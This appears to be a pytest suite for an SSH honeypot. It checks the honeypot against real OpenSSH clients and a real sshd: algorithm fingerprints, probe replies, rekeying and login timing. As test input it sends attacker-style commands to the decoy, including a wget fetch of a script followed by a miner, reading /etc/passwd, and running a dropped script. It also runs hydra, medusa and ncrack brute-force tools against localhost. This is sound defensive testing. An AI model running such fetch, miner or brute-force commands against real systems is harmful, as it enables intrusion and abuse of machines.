"""The SSH honeypot against real clients: the OpenSSH client forced to each algorithm, paramiko, asyncssh,
and a real Debian sshd started by the test for side-by-side fingerprint and probe comparison."""
import hashlib
import re
import os
import shutil
import socket
import subprocess
import time

import pytest

from conftest import Sensor, wait_for

CONFIG = """
sensor:
  name: ssh-test
honeypots:
  trap:
    enabled: false
  ssh:
    tcp_ports: [2222]
    hostname: web01
    auth_rules: ["root:123456", "admin:!admin", "*:!*"]
    accept_after: 0
"""


KEX = ["sntrup761x25519-sha512", "sntrup761x25519-sha512@openssh.com", "curve25519-sha256", "curve25519-sha256@libssh.org", "ecdh-sha2-nistp256", "ecdh-sha2-nistp384",
       "ecdh-sha2-nistp521", "diffie-hellman-group-exchange-sha256", "diffie-hellman-group16-sha512",
       "diffie-hellman-group18-sha512", "diffie-hellman-group14-sha256"]
CIPHERS = ["chacha20-poly1305@openssh.com", "aes128-ctr", "aes192-ctr", "aes256-ctr", "aes128-gcm@openssh.com", "aes256-gcm@openssh.com"]
MACS = ["umac-64-etm@openssh.com", "umac-128-etm@openssh.com", "umac-64@openssh.com", "umac-128@openssh.com",
        "hmac-sha2-256-etm@openssh.com", "hmac-sha2-512-etm@openssh.com", "hmac-sha1-etm@openssh.com",
        "hmac-sha2-256", "hmac-sha2-512", "hmac-sha1"]
HOSTKEYS = ["rsa-sha2-512", "rsa-sha2-256", "ecdsa-sha2-nistp256", "ssh-ed25519"]


@pytest.fixture(scope="module")
def honeypot(tmp_path_factory):
    from conftest import free_port_base
    tmp = tmp_path_factory.mktemp("ssh")
    s = Sensor(tmp, CONFIG, free_port_base(), worker="ssh").start()
    yield s
    s.stop()


def ssh(port, password, *options, user="root", command="uname -a", timeout=60):
    args = ["sshpass", "-p", password, "ssh", "-p", str(port), "-o", "StrictHostKeyChecking=no",
            "-o", "UserKnownHostsFile=/dev/null", "-o", "LogLevel=ERROR", "-o", "ConnectTimeout=10",
            "-o", "PubkeyAuthentication=no", "-o", "NumberOfPasswordPrompts=1", *options, f"{user}@127.0.0.1", command]
    return subprocess.run(args, capture_output=True, text=True, timeout=timeout)


def logins(sensor, kind, user, password):
    return [e for e in sensor.events(event=kind) if e.get("username") == user and e.get("password") == password]


@pytest.mark.parametrize("option,value", [("KexAlgorithms", k) for k in KEX] + [("Ciphers", c) for c in CIPHERS]
                         + [("MACs", m) for m in MACS] + [("HostKeyAlgorithms", h) for h in HOSTKEYS])
def test_openssh_client_with_each_algorithm(honeypot, option, value):
    port = 2222 + honeypot.offset
    options = ["-o", f"{option}={value}"]
    if option == "MACs":
        options += ["-o", "Ciphers=aes128-ctr"]  # MACs only apply to non-AEAD ciphers
    r = ssh(port, "123456", *options, command=f"echo {value}")
    assert r.returncode == 0, r.stderr
    assert r.stdout == f"{value}\n" and r.stderr == ""
    assert wait_for(lambda: [e for e in honeypot.events(event="command.input") if e.get("input") == f"echo {value}"], 10)


def test_delayed_zlib_compression(honeypot):
    port = 2222 + honeypot.offset
    long_command = "echo " + "A" * 3000
    r = ssh(port, "123456", "-C", "-o", "Ciphers=aes256-gcm@openssh.com", command=long_command)
    assert r.returncode == 0 and r.stdout == "A" * 3000 + "\n"
    assert wait_for(lambda: honeypot.events(event="command.input", input=long_command), 10)
    paramiko = pytest.importorskip("paramiko")
    c = paramiko.SSHClient()
    c.set_missing_host_key_policy(paramiko.AutoAddPolicy())
    c.connect("127.0.0.1", port=port, username="root", password="123456", allow_agent=False, look_for_keys=False,
              timeout=10, compress=True)
    assert c.get_transport().remote_compression == "zlib@openssh.com"
    _, out, err = c.exec_command("id")
    assert out.read() == b"uid=0(root) gid=0(root) groups=0(root)\n" and err.read() == b""
    c.close()


def test_wrong_password_is_refused_and_captured(honeypot):
    port = 2222 + honeypot.offset
    r = ssh(port, "hunter2-wrong")
    assert r.returncode == 255 and "Permission denied" in r.stderr
    assert wait_for(lambda: logins(honeypot, "login.failed", "root", "hunter2-wrong"), 10)
    ok = ssh(port, "123456")
    assert ok.returncode == 0 and ok.stdout.startswith("Linux web01 6.1.0-"), ok.stdout
    e = wait_for(lambda: logins(honeypot, "login.success", "root", "123456"), 10)[0]
    assert e["protocol"] == "ssh" and e["src_ip"] == "127.0.0.1" and len(e["session"]) == 12


def test_client_version_and_hassh_events(honeypot):
    port = 2222 + honeypot.offset
    # Earlier tests also connect with curve25519 first: wait for an event that was not there before.
    before = len(honeypot.events(event="ssh.client.kex"))
    ssh(port, "123456", "-o", "KexAlgorithms=curve25519-sha256", "-o", "Ciphers=aes256-ctr", "-o", "MACs=hmac-sha2-512",
        command="true")
    kex = wait_for(lambda: [e for e in honeypot.events(event="ssh.client.kex")[before:]
                            if e["hassh_algorithms"].startswith("curve25519-sha256,")], 10)
    assert kex
    algos = kex[-1]["hassh_algorithms"]
    assert algos.split(";")[1:] == ["aes256-ctr", "hmac-sha2-512", "none,zlib@openssh.com,zlib"]
    assert kex[-1]["hassh"] == hashlib.md5(algos.encode()).hexdigest()
    versions = honeypot.events(event="ssh.client.version")
    assert any(v["client_version"].startswith("SSH-2.0-OpenSSH_9.2p1") for v in versions)


def test_paramiko_password_exec_and_max_auth_tries(honeypot):
    paramiko = pytest.importorskip("paramiko")
    port = 2222 + honeypot.offset
    c = paramiko.SSHClient()
    c.set_missing_host_key_policy(paramiko.AutoAddPolicy())
    c.connect("127.0.0.1", port=port, username="root", password="123456", allow_agent=False, look_for_keys=False, timeout=10)
    _, out, err = c.exec_command("cat /etc/passwd; xmrig --donate-level 1")
    assert out.read().startswith(b"root:x:0:0:root:/root:/bin/bash\n")
    assert err.read() == b"bash: line 1: xmrig: command not found\n"
    assert out.channel.recv_exit_status() == 127
    c.close()
    # Wrong passwords on one connection until OpenSSH's MaxAuthTries (6) ends it.
    assert failures_until_disconnect(paramiko, port) == 6
    assert wait_for(lambda: len([e for e in honeypot.events(event="login.failed") if e.get("username") == "admin"]) >= 6, 10)


def failures_until_disconnect(paramiko, port):
    t = paramiko.Transport(("127.0.0.1", port))
    t.start_client(timeout=10)
    failures = 0
    try:
        for i in range(10):
            try:
                t.auth_password("admin", f"wrong{i}")
            except paramiko.AuthenticationException:
                failures += 1
    except (paramiko.SSHException, EOFError, OSError):
        pass
    t.close()
    return failures


def test_max_auth_tries_like_real_sshd(honeypot, real_sshd):
    paramiko = pytest.importorskip("paramiko")
    assert failures_until_disconnect(paramiko, 2222 + honeypot.offset) == failures_until_disconnect(paramiko, real_sshd)


def test_asyncssh_login(honeypot):
    asyncssh = pytest.importorskip("asyncssh")
    import asyncio

    async def run():
        async with asyncssh.connect("127.0.0.1", port=2222 + honeypot.offset, username="root", password="123456",
                                    known_hosts=None) as conn:
            return await conn.run("id", check=False)

    result = asyncio.run(asyncio.wait_for(run(), 30))
    assert result.exit_status == 0
    assert result.stdout == "uid=0(root) gid=0(root) groups=0(root)\n"


def test_interactive_shell_prompt(honeypot):
    paramiko = pytest.importorskip("paramiko")
    c = paramiko.SSHClient()
    c.set_missing_host_key_policy(paramiko.AutoAddPolicy())
    c.connect("127.0.0.1", port=2222 + honeypot.offset, username="root", password="123456", allow_agent=False,
              look_for_keys=False, timeout=10)
    ch = c.invoke_shell(term="xterm", width=120, height=40)
    buf = b""
    deadline = time.time() + 10
    while b"root@web01:~# " not in buf and time.time() < deadline:
        buf += ch.recv(4096)
    ch.send(b"wget http://198.51.100.1/x.sh; xmrig\r")
    while b"command not found" not in buf and time.time() < deadline:
        buf += ch.recv(4096)
    # Fetching is off by default: wget fails as against an unreachable host, and never connects.
    assert b"Connecting to 198.51.100.1:80... failed" in buf
    assert b"-bash: xmrig: command not found\r\n" in buf
    ch.send(b"exit\r")
    c.close()
    e = wait_for(lambda: [x for x in honeypot.events(event="command.input") if x.get("input") == "wget http://198.51.100.1/x.sh; xmrig"], 10)
    assert e and e[0]["honeypot"] == "ssh"


def test_command_reading_the_terminal_takes_only_its_input(honeypot):
    """A bot's burst in one packet: `cat > f`, the file's lines, ^D, then more commands. Like bash, cat
    gets exactly the lines before ^D and the rest runs as commands (no `command not found`, no logout)."""
    paramiko = pytest.importorskip("paramiko")
    c = paramiko.SSHClient()
    c.set_missing_host_key_policy(paramiko.AutoAddPolicy())
    c.connect("127.0.0.1", port=2222 + honeypot.offset, username="root", password="123456", allow_agent=False,
              look_for_keys=False, timeout=10)
    ch = c.invoke_shell(term="xterm", width=120, height=40)
    buf = b""
    deadline = time.time() + 10
    while b"root@web01:~# " not in buf and time.time() < deadline:
        buf += ch.recv(4096)
    ch.send(b"cat > /tmp/drop.sh\r#!/bin/sh\r\necho stage2\r\x04chmod +x /tmp/drop.sh; /tmp/drop.sh; echo END-$((6*7))\r")
    while b"END-42\r\n" not in buf and time.time() < deadline:
        buf += ch.recv(4096)
    assert b"#!/bin/sh\r\necho stage2\r\nroot@web01:~# chmod +x /tmp/drop.sh; /tmp/drop.sh; echo END-$((6*7))\r\nstage2\r\nEND-42\r\n" in buf, buf
    assert b"command not found" not in buf and b"logout" not in buf, buf
    ch.send(b"exit\r")
    c.close()
    created = wait_for(lambda: [x for x in honeypot.events(event="file.created") if x.get("filename") == "/tmp/drop.sh"], 10)
    assert created and created[0]["sha256"] == hashlib.sha256(b"#!/bin/sh\necho stage2\n").hexdigest(), created
    inputs = [x.get("input") for x in honeypot.events(event="command.input")]
    assert "cat > /tmp/drop.sh" in inputs and "#!/bin/sh" not in inputs and "echo stage2" not in inputs, inputs
    typed = [(x.get("message"), x.get("input")) for x in honeypot.events(event="command.stdin")]
    assert ("cat", "#!/bin/sh\necho stage2") in typed, typed


def test_stdin_script_command_takes_the_rest_of_stdin(honeypot):
    """`ssh -T host < script` (no pty): bash reads the script from stdin, so `read` takes the next line and
    `cat > f` everything after its line; the fake host does the same."""
    args = ["sshpass", "-p", "123456", "ssh", "-T", "-p", str(2222 + honeypot.offset), "-o", "StrictHostKeyChecking=no",
            "-o", "UserKnownHostsFile=/dev/null", "-o", "LogLevel=ERROR", "-o", "PubkeyAuthentication=no", "root@127.0.0.1"]
    script = b"echo start\nread v\nsecret value\necho got=$v\ncat > /tmp/rest.txt\nline1\nline2\n"
    r = subprocess.run(args, input=script, capture_output=True, timeout=60)
    assert r.stdout == b"start\ngot=secret value\n", r
    created = wait_for(lambda: [x for x in honeypot.events(event="file.created") if x.get("filename") == "/tmp/rest.txt"], 10)
    assert created and created[0]["sha256"] == hashlib.sha256(b"line1\nline2\n").hexdigest(), created
    typed = wait_for(lambda: [(x.get("message"), x.get("input")) for x in honeypot.events(event="command.stdin")
                              if x.get("message") in ("read", "cat")], 10)
    assert ("read", "secret value") in typed and ("cat", "line1\nline2") in typed, typed


# --- side by side with a real sshd -------------------------------------------------------------------

@pytest.fixture(scope="module")
def real_sshd(tmp_path_factory):
    yield from start_sshd(tmp_path_factory.mktemp("sshd"))


@pytest.fixture(scope="module")
def real_sshd_without_pam(tmp_path_factory):
    yield from start_sshd(tmp_path_factory.mktemp("sshd-nopam"), "-o", "UsePAM=no")


def start_sshd(tmp, *extra):
    sshd = "/usr/sbin/sshd"
    if not os.path.exists(sshd) or os.geteuid() != 0:
        pytest.skip("needs root and Debian's openssh-server")
    for t in ("rsa", "ecdsa", "ed25519"):
        subprocess.run(["ssh-keygen", "-q", "-t", t, "-N", "", "-f", str(tmp / f"host_{t}")], check=True)
    os.makedirs("/run/sshd", exist_ok=True)
    s = socket.socket()
    s.bind(("127.0.0.1", 0))
    port = s.getsockname()[1]
    s.close()
    config = "/etc/ssh/sshd_config" if os.path.exists("/etc/ssh/sshd_config") else "/dev/null"
    args = [sshd, "-D", "-e", "-f", config, "-p", str(port), "-o", "ListenAddress=127.0.0.1", "-o", "PidFile=none", *extra]
    for t in ("rsa", "ecdsa", "ed25519"):
        args += ["-h", str(tmp / f"host_{t}")]
    proc = subprocess.Popen(args, stderr=subprocess.DEVNULL)
    assert wait_for(lambda: _port_open(port), 10)
    yield port
    proc.terminate()
    proc.wait()


def _port_open(port):
    try:
        socket.create_connection(("127.0.0.1", port), timeout=1).close()
        return True
    except OSError:
        return False


def probe(port, payload, wait=1.0):
    s = socket.create_connection(("127.0.0.1", port), timeout=5)
    s.settimeout(0.3)
    banner = b""
    try:
        banner = s.recv(1000)
    except socket.timeout:
        pass
    s.sendall(payload)
    out = b""
    deadline = time.time() + wait
    while time.time() < deadline:
        try:
            d = s.recv(65536)
            if not d:
                out += b"<close>"
                break
            out += d
        except socket.timeout:
            pass
        except ConnectionResetError:
            out += b"<close>"
            break
    s.close()
    return banner, out


@pytest.mark.parametrize("payload", [b"GET / HTTP/1.0\r\n\r\n", b"SSH-1.5-Nmap\r\n", b"SSH-3.0-x\r\n",
                                     b"\x00\x01\x02garbage\r\n", b"SSH-2.0-x\r\n" + b"\x7f\xff\xff\xff" + b"\x00" * 28])
def test_probes_get_the_same_reply_as_real_sshd(honeypot, real_sshd, payload):
    real = probe(real_sshd, payload)
    ours = probe(2222 + honeypot.offset, payload)
    assert ours[0] == real[0], "banner"
    if payload.startswith(b"SSH-2.0"):
        # Both send KEXINIT (random cookie) then close on the bad length: compare the shape.
        assert real[1].endswith(b"<close>") and ours[1].endswith(b"<close>")
        assert ours[1][5] == 20 and real[1][5] == 20
    else:
        assert ours[1] == real[1]


def kexinit_lists(port):
    s = socket.create_connection(("127.0.0.1", port), timeout=5)
    s.recv(1000)
    s.sendall(b"SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u10\r\n")
    data = b""
    while len(data) < 5 or len(data) < int.from_bytes(data[:4], "big") + 4:
        data += s.recv(65536)
    s.close()
    payload = data[5:4 + int.from_bytes(data[:4], "big") - data[4]]
    p, lists = payload[17:], []
    for _ in range(10):
        n = int.from_bytes(p[:4], "big")
        lists.append(p[4:4 + n].decode().split(",") if n else [])
        p = p[4 + n:]
    return lists


def test_kexinit_lists_match_real_sshd_in_order(honeypot, real_sshd):
    real = kexinit_lists(real_sshd)
    ours = kexinit_lists(2222 + honeypot.offset)
    assert ours == real


def test_nmap_ssh2_enum_algos_matches_real_sshd(honeypot, real_sshd):
    if not shutil.which("nmap"):
        pytest.skip("nmap not installed")

    def enum(port):
        out = subprocess.run(["nmap", "-Pn", "-n", "-sV", "--script", "ssh2-enum-algos,ssh-hostkey", "-p", str(port), "127.0.0.1"],
                             capture_output=True, text=True, timeout=120).stdout
        return out

    real = enum(real_sshd)
    ours = enum(2222 + honeypot.offset)
    # Same product/version identification.
    assert "OpenSSH 9.2p1 Debian 2+deb12u10" in real
    assert "OpenSSH 9.2p1 Debian 2+deb12u10" in ours
    def algos(text):
        return [m.group(1) for m in (re.match(r"^\|_?\s{6,}(\S+)", l) for l in text.splitlines()) if m]
    assert algos(ours) == algos(real)
    assert len(algos(ours)) == 12 + 4 + 6 + 10 + 2


def failed_password_latency(paramiko, port, attempts=5):
    """Seconds from sending a wrong password to the failure reply, median over fresh connections."""
    times = []
    for i in range(attempts):
        t = paramiko.Transport(("127.0.0.1", port))
        t.start_client(timeout=10)
        start = time.perf_counter()
        try:
            t.auth_password("root", f"definitely-wrong-{i}")
        except paramiko.AuthenticationException:
            pass
        times.append(time.perf_counter() - start)
        t.close()
    times.sort()
    return times[len(times) // 2]


def test_wrong_password_answered_as_fast_as_sshd(honeypot, real_sshd_without_pam):
    """Cowrie answers a wrong password after exactly 1 s, a one-attempt tell; sshd checking passwords
    itself (UsePAM no) answers in a few ms. (With Debian's default UsePAM yes, pam_unix's fail delay
    makes it 2-4 s; see the SSH issue note.)"""
    paramiko = pytest.importorskip("paramiko")
    ours = failed_password_latency(paramiko, 2222 + honeypot.offset)
    real = failed_password_latency(paramiko, real_sshd_without_pam)
    assert ours < 0.2, ours
    assert abs(ours - real) < 0.1, (ours, real)


BRUTE_CONFIG = """
honeypots:
  trap:
    enabled: false
  telnet:
    enabled: false
  ssh:
    tcp_ports: [2222]
    auth_rules: ["root:letmein", "*:!*"]
    accept_after: 0
"""


@pytest.fixture(scope="module")
def brute_target(tmp_path_factory):
    from conftest import free_port_base
    tmp = tmp_path_factory.mktemp("brute")
    (tmp / "passwords.txt").write_text("admin\n123456\nletmein\npassword\n")
    s = Sensor(tmp, BRUTE_CONFIG, free_port_base(), worker="ssh").start()
    yield s, str(tmp / "passwords.txt")
    s.stop()


@pytest.mark.parametrize("tool", ["hydra", "medusa", "ncrack"])
def test_brute_force_tools_find_the_accepted_password(brute_target, tool):
    """The password-list tools bots are built on complete handshakes and auth; every guess is captured."""
    if not shutil.which(tool):
        pytest.skip(f"{tool} not installed")
    sensor, passwords = brute_target
    port = str(2222 + sensor.offset)
    before = len(sensor.events(event="login.failed"))
    cmd = {
        "hydra": ["hydra", "-l", "root", "-P", passwords, "-t", "2", "-s", port, "127.0.0.1", "ssh"],
        "medusa": ["medusa", "-h", "127.0.0.1", "-n", port, "-u", "root", "-P", passwords, "-M", "ssh"],
        "ncrack": ["ncrack", "--user", "root", "-P", passwords, f"ssh://127.0.0.1:{port}"],
    }[tool]
    out = subprocess.run(cmd, capture_output=True, text=True, timeout=180).stdout
    assert "letmein" in out, out
    assert wait_for(lambda: [e for e in sensor.events(event="login.success") if e.get("password") == "letmein"], 10)
    failed = wait_for(lambda: [e["password"] for e in sensor.events(event="login.failed")[before:]
                               if e.get("username") == "root"], 10)
    assert set(failed) & {"admin", "123456"}, failed


def test_client_initiated_rekey(honeypot):
    """OpenSSH rekeys after RekeyLimit bytes; the session carries on under the new keys."""
    command = "echo " + "B" * 3000
    r = ssh(2222 + honeypot.offset, "123456", "-v", "-o", "RekeyLimit=1K", command=command)
    assert r.returncode == 0 and r.stdout == "B" * 3000 + "\n"
    assert r.stderr.count("SSH2_MSG_KEXINIT received") >= 2, "no rekey happened"
    assert wait_for(lambda: honeypot.events(event="command.input", input=command), 10)


def test_server_initiated_rekey_by_bytes(tmp_path):
    """Like sshd with RekeyLimit, the server starts a new key exchange after rekey_bytes of traffic, in
    the middle of a session's data stream; OpenSSH follows and the session finishes normally."""
    from conftest import free_port_base
    config = CONFIG + "    rekey_bytes: 16KiB\n"
    s = Sensor(tmp_path, config, free_port_base(), worker="ssh").start()
    try:
        stdin = os.urandom(200_000).hex().encode()  # 400 KB of stdin: many rekeys' worth
        args = ["sshpass", "-p", "123456", "ssh", "-v", "-p", str(2222 + s.offset), "-o", "StrictHostKeyChecking=no",
                "-o", "UserKnownHostsFile=/dev/null", "-o", "PubkeyAuthentication=no", "root@127.0.0.1", "cat > /tmp/x"]
        r = subprocess.run(args, input=stdin, capture_output=True, timeout=60)
        err = r.stderr.decode(errors="replace")
        assert r.returncode == 0, err[-2000:]
        kex_lines = [l for l in err.splitlines() if "SSH2_MSG_KEXINIT" in l]
        assert len(kex_lines) >= 4, kex_lines  # first exchange + at least one rekey, each "sent" and "received"
        # The client never asked (no RekeyLimit): in the second exchange the server's KEXINIT came first.
        assert "received" in kex_lines[2] and "sent" in kex_lines[3], kex_lines
        # The fake host's cat really read the whole stream under the changing keys.
        created = wait_for(lambda: [e for e in s.events(event="file.created") if e.get("filename") == "/tmp/x"], 10)
        assert created and created[-1]["sha256"] == hashlib.sha256(stdin).hexdigest(), s.events(event="file.created")
    finally:
        s.stop()


def test_publickey_attempt_is_refused_and_logged_with_its_fingerprint(honeypot, tmp_path):
    """A real OpenSSH key is refused (keys are not accepted unless configured) and the event carries the
    key type and the same SHA256 fingerprint `ssh-keygen -l` prints."""
    key = str(tmp_path / "id_ed25519")
    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", key], check=True)
    fp = subprocess.run(["ssh-keygen", "-l", "-f", key + ".pub"], capture_output=True, text=True, check=True).stdout.split()[1]
    before = len(honeypot.events(event="login.failed"))
    r = subprocess.run(["ssh", "-p", str(2222 + honeypot.offset), "-i", key, "-o", "IdentitiesOnly=yes",
                        "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "-o", "BatchMode=yes",
                        "-o", "PasswordAuthentication=no", "root@127.0.0.1", "true"], capture_output=True, text=True, timeout=30)
    assert r.returncode == 255 and "Permission denied (publickey,password)" in r.stderr, r.stderr
    keyed = wait_for(lambda: [e for e in honeypot.events(event="login.failed")[before:] if e.get("fingerprint")], 10)
    assert keyed[0]["key_type"] == "ssh-ed25519" and keyed[0]["fingerprint"] == fp and keyed[0]["username"] == "root"


def test_keepalive_requests_are_answered(honeypot):
    """ssh's ServerAliveInterval sends keepalive@openssh.com global requests; sshd answers them (with
    REQUEST_FAILURE), so a client with ServerAliveCountMax=1 stays connected while idle."""
    pexpect = pytest.importorskip("pexpect")
    child = pexpect.spawn("sshpass", ["-p", "123456", "ssh", "-tt", "-p", str(2222 + honeypot.offset),
                                      "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null",
                                      "-o", "PubkeyAuthentication=no", "-o", "ServerAliveInterval=1",
                                      "-o", "ServerAliveCountMax=1", "root@127.0.0.1"], timeout=15)
    child.expect_exact("root@web01:~# ")
    time.sleep(4)  # four keepalive rounds: unanswered ones would end the session after two seconds
    child.sendline("exit")
    child.expect_exact("logout")
    child.expect(pexpect.EOF)
    child.close()
    assert child.exitstatus == 0, child.before


def test_login_grace_time_closes_silent_clients(tmp_path):
    """LoginGraceTime: a client that does not authenticate in time is disconnected."""
    from conftest import free_port_base
    s = Sensor(tmp_path, CONFIG + "    login_grace_seconds: 2\n", free_port_base(), worker="ssh").start()
    try:
        sock = socket.create_connection(("127.0.0.1", 2222 + s.offset), timeout=10)
        assert sock.recv(256).startswith(b"SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u10\r\n")
        sock.sendall(b"SSH-2.0-OpenSSH_9.2p1\r\n")
        started = time.time()
        data = b""
        while True:
            chunk = sock.recv(65536)
            if not chunk:
                break
            data += chunk
        elapsed = time.time() - started
        assert 1.5 <= elapsed <= 6, elapsed
        closes = wait_for(lambda: [e for e in s.events(event="session.close") if e.get("message") == "login grace time exceeded"], 10)
        assert closes, s.events(event="session.close")
    finally:
        s.stop()
